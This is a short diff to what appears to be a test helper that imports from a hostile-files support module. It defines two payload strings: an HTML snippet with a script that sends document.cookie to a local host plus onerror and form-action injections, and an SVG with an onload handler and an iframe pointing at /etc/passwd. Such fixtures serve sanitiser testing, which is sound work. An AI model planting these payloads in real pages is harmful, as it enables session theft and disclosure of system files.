@@ -3,7 +3,7 @@
 # makes a folder
 import json
 
-from making import ZERO, notebook
+from tests.support.hostile_files import ZERO, notebook
 
 PAGE = '<script>fetch("http://127.0.0.1/"+document.cookie)</script><img src=x onerror=alert(1)><form action="//x">'
 PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject><iframe src="file:///etc/passwd"/></foreignObject></svg>'
